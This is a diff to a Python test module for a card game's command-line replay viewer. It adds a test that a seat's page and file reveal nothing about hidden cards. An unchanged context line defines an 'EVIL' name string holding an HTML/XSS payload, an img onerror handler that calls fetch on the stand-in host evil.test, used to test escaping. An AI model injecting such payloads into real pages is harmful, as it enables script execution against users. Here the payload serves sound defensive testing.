@@ -18,10 +18,13 @@ from cli.page.content import Content
 from cli.page.table import Table
 from cli.viewer.telling import Telling
 from dcg.kernel.course import MatchStarted
-from replays.match_file import of_seat
+from dcg.official.game import GAME
+from dcg.official.language.card import address
+from replays.match_file import of_seat, packed
 from replays.record import MatchRecord
 from replays.store import MatchStore
 from tests.cli.conftest import Run, complaint
+from tests.cli.test_play_secrecy import OTHER, elsewhere
 
 EVIL = "</script><img src=x onerror=\"fetch('http://evil.test')\">\u2028\u202e<b>\"'&amp;--><!--"
 """Every way out of an element, a line and a direction that a name could try."""
@@ -165,6 +168,20 @@ def test_a_seats_page_holds_nothing_the_seat_never_knew(store: Path, seat: int) 
         assert header.seats[1 - seat].deck not in text
         assert f"seed {header.seed}" not in text
     assert hidden
+
+
+@pytest.mark.parametrize("seat", [0, 1])
+def test_a_seats_page_and_file_are_the_same_whatever_the_cards_it_never_saw(
+    record: MatchRecord, seat: int
+) -> None:
+    """In a world the seat cannot tell from its own: other hidden cards, no answers of the other."""
+    definitions = {**record.definitions, address(OTHER): OTHER}
+    other = MatchRecord(
+        record.id, elsewhere(record.events, seat), definitions, recorded_at=record.recorded_at
+    )
+    assert GAME.registry.encode(other.events) != GAME.registry.encode(record.events)
+    assert packed(of_seat(other, seat)) == packed(of_seat(record, seat))
+    assert page(content(other, seat)) == page(content(record, seat))
 
 
 def test_only_whole_matches_have_views_to_toggle(record: MatchRecord, whole: Content) -> None:
